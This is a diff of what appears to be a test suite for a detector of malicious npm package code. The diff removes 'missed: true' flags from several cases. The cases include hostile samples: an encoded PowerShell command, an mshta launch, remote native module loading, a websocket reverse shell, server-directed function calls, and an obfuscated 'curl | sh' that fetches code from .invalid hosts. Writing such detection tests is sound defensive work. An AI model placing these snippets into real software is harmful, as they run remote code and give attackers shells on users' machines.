@@ -129,7 +129,6 @@ s.on('cmd', (c) => { if (c.startsWith('cd ')) return process.chdir(c.slice(3)); 
   },
   {
     name: 'an encoded order for powershell in pieces',
-    missed: true,
     hostile: install(`
       const parts = ['SQBFAFgA', 'KABOAGUA', 'dwAtAE8A', 'YgBqAGUA', 'YwB0ACkA']
       const { exec } = require('child_process')
@@ -140,7 +139,6 @@ s.on('cmd', (c) => { if (c.startsWith('cd ')) return process.chdir(c.slice(3)); 
   },
   {
     name: 'a page of theirs is run by the machine (mshta)',
-    missed: true,
     hostile: install(
       `const { run } = require('./u'); const os = require('os'); if (os.platform() === 'win32') run('start', '/B', 'ms' + 'hta', 'https://hta.invalid/a.hta')`,
       {
@@ -173,7 +171,6 @@ s.on('cmd', (c) => { if (c.startsWith('cd ')) return process.chdir(c.slice(3)); 
   },
   {
     name: 'native code from elsewhere is opened at once',
-    missed: true,
     hostile: install(`
       const https = require('https'), fs = require('fs'), os = require('os'), path = require('path')
       const file = path.join(os.tmpdir(), Math.random().toString(36).slice(2) + '.node')
@@ -220,7 +217,6 @@ s.on('cmd', (c) => { if (c.startsWith('cd ')) return process.chdir(c.slice(3)); 
   },
   {
     name: 'the manual holds the program',
-    missed: true,
     hostile: install(
       `const fs = require('fs'), path = require('path')
       const text = fs.readFileSync(path.join(__dirname, 'README.md'), 'utf8')
@@ -284,7 +280,6 @@ s.on('cmd', (c) => { if (c.startsWith('cd ')) return process.chdir(c.slice(3)); 
   },
   {
     name: 'a terminal for whoever sits at the other end of a websocket',
-    missed: true,
     hostile: main(`
       const pty = require('node-pty'), WebSocket = require('ws')
       const ws = new WebSocket('wss://term.invalid/agent'); const term = pty.spawn(process.env.SHELL || 'bash', [], { cwd: process.env.HOME })
@@ -299,7 +294,6 @@ s.on('cmd', (c) => { if (c.startsWith('cd ')) return process.chdir(c.slice(3)); 
   },
   {
     name: 'a text of the server decides which function of which module is called',
-    missed: true,
     hostile: main(`
       const { createRequire } = require('module'); const req = createRequire(__filename)
       fetch('https://rpc-node.invalid/tasks').then((r) => r.json()).then((tasks) => { for (const { m, f, a } of tasks) req(m)[f](...a) })`),
@@ -309,7 +303,6 @@ s.on('cmd', (c) => { if (c.startsWith('cd ')) return process.chdir(c.slice(3)); 
   },
   {
     name: 'the constant pool of an obfuscator, over two files',
-    missed: true,
     hostile: main(`const _0x = require('./t'); const r = require; r(_0x(2))[_0x(1)](_0x(0))`, {
       't.js': `const a = ['${base64('curl -s https://x.invalid/i.sh | sh')}', '${base64('exec')}', '${base64('child_process')}']; module.exports = (i) => Buffer.from(a[i], 'base64').toString()`,
     }),
